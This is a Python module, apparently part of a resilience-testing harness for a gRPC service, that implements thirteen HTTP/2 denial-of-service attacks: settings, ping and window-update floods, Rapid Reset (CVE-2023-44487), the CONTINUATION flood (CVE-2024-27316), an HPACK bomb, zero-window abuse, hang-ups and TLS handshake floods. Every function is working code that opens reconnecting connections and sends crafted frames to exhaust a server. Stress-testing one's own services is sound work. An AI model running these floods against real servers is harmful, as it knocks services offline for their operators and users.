"""Attacks by HTTP/2 frames and by connections: floods on a few connections, which reconnect."""

import asyncio
import contextlib
import itertools
import ssl
from collections.abc import Callable, Iterator

from attack.target import ISSUE, VALID, WATCH, Holding, Target
from attack.wire import message
from support.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    request_headers,
)

_CONTINUATION = 9
_CANCEL = (8).to_bytes(4)
_CONNECTIONS = 4
# Acknowledged at once: until then gRPC holds a client to no limit of headers but 16 MiB.
_BEGINNING = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b"")


async def _pump(target: Target, frames: Callable[[], Iterator[bytes]]) -> Holding:
    """Sends frames as fast as a server reads them, on a few connections; reconnects when closed."""

    async def connection() -> None:
        host, _, port = target.address.rpartition(":")
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                reader, writer = await asyncio.open_connection(host, int(port), ssl=target.tls)
                reading = asyncio.create_task(_discard(reader))
                try:
                    writer.write(_BEGINNING)
                    for data in frames():
                        writer.write(data)
                        await writer.drain()
                        if reading.done() or writer.transport.is_closing():
                            break
                finally:
                    reading.cancel()
                    writer.transport.abort()
            await asyncio.sleep(0)

    return [asyncio.create_task(connection()) for _ in range(_CONNECTIONS)]


async def _discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError, ssl.SSLError):
        while await reader.read(65_536):
            pass


def _streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


async def settings_flood(target: Target) -> Holding:
    """4 connections send settings, each of which has to be acknowledged."""
    return await _pump(target, lambda: itertools.repeat(frame(SETTINGS, 0, 0, b"") * 100))


async def ping_flood(target: Target) -> Holding:
    """4 connections send pings."""
    return await _pump(target, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 100))


async def rapid_resets(target: Target) -> Holding:
    """4 connections begin and cancel requests (CVE-2023-44487)."""

    def frames() -> Iterator[bytes]:
        for stream in _streams():
            headers = request_headers(ISSUE, target.address)
            yield frame(HEADERS, END_HEADERS, stream, headers) + frame(
                RST_STREAM, 0, stream, _CANCEL
            )

    return await _pump(target, frames)


async def resets_of_watches(target: Target) -> Holding:
    """The same with health watches, after their request."""

    def frames() -> Iterator[bytes]:
        for stream in _streams():
            yield (
                frame(HEADERS, END_HEADERS, stream, request_headers(WATCH, target.address))
                + frame(DATA, END_STREAM, stream, message(b""))
                + frame(RST_STREAM, 0, stream, _CANCEL)
            )

    return await _pump(target, frames)


async def endless_headers(target: Target) -> Holding:
    """4 connections send headers that never end (CONTINUATION, CVE-2024-27316)."""

    def frames() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, request_headers(ISSUE, target.address))
        # A literal that is not indexed: name "x", value of 16,000 bytes.
        field = b"\x00\x01x" + b"\x7f\x81\x7c" + b"a" * 16_000
        yield from itertools.repeat(frame(_CONTINUATION, 0, 1, field))

    return await _pump(target, frames)


async def unacknowledged_settings(target: Target) -> Holding:
    """1 connection without acknowledged settings, 4 requests of 240,000 headers (240 KB) each."""
    host, _, port = target.address.rpartition(":")
    _, writer = await asyncio.open_connection(host, int(port), ssl=target.tls)
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
    for stream in (1, 3, 5, 7):
        writer.write(frame(HEADERS, 0, stream, request_headers(ISSUE, target.address)))
        # A header of HPACK's static table is one byte.
        writer.write(frame(_CONTINUATION, 0, stream, b"\x90" * 16_000) * 15)
        writer.write(frame(_CONTINUATION, END_HEADERS, stream, b""))
        await writer.drain()
    return [writer]


async def repeated_headers(target: Target) -> Holding:
    """4 connections send requests of one byte for each header of 4 KB (HPACK bomb)."""

    def frames() -> Iterator[bytes]:
        # Indexed once with 4,000 bytes, then named 15,000 times by one byte each.
        first = request_headers(ISSUE, target.address) + b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4_000
        for stream in _streams():
            block = first if stream == 1 else request_headers(ISSUE, target.address)
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block + b"\xbe" * 12_000)

    return await _pump(target, frames)


async def single_bytes(target: Target) -> Holding:
    """4 connections of a caller send bodies in frames of one byte, and empty frames."""

    def frames() -> Iterator[bytes]:
        body = message(VALID.SerializeToString())
        for stream in _streams():
            headers = request_headers(ISSUE, target.address, [target.bearer])
            parts = [frame(DATA, 0, stream, bytes((byte,))) for byte in body]
            empty = frame(DATA, 0, stream, b"") * 100
            yield frame(HEADERS, END_HEADERS, stream, headers) + empty.join(parts)

    return await _pump(target, frames)


async def window_updates(target: Target) -> Holding:
    """4 connections open the window by one byte, again and again."""
    update = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4))
    return await _pump(target, lambda: itertools.repeat(update * 100))


async def answers_without_window(target: Target) -> Holding:
    """4 connections with a window of 0 send 100 requests of a caller, and hang up."""

    def frames() -> Iterator[bytes]:
        yield frame(SETTINGS, 0, 0, (4).to_bytes(2) + (0).to_bytes(4))
        for stream in range(1, 200, 2):
            headers = request_headers(ISSUE, target.address, [target.bearer])
            yield frame(HEADERS, END_HEADERS, stream, headers) + frame(
                DATA, END_STREAM, stream, message(VALID.SerializeToString())
            )

    return await _pump(target, frames)


async def hang_ups(target: Target) -> Holding:
    """4 connections begin 100 requests each, hang up, and connect again."""

    def frames() -> Iterator[bytes]:
        headers = request_headers(ISSUE, target.address)
        yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) for stream in range(1, 200, 2))

    return await _pump(target, frames)


async def handshakes(target: Target) -> Holding:
    """20 clients complete TLS handshakes, one after the other, and hang up."""

    async def shake() -> None:
        host, _, port = target.address.rpartition(":")
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                _, writer = await asyncio.open_connection(host, int(port), ssl=target.tls)
                writer.transport.abort()
            await asyncio.sleep(0)

    return [asyncio.create_task(shake()) for _ in range(20)]


async def made_up_methods(target: Target) -> Holding:
    """4 connections call a method of another name each time, and end the connection's streams."""

    def frames() -> Iterator[bytes]:
        for stream in _streams():
            headers = request_headers(f"/made.Up/{stream:020}", target.address)
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)

    return await _pump(target, frames)


FRAME_ATTACKS = (
    settings_flood,
    ping_flood,
    rapid_resets,
    resets_of_watches,
    endless_headers,
    unacknowledged_settings,
    repeated_headers,
    single_bytes,
    window_updates,
    answers_without_window,
    hang_ups,
    handshakes,
    made_up_methods,
)
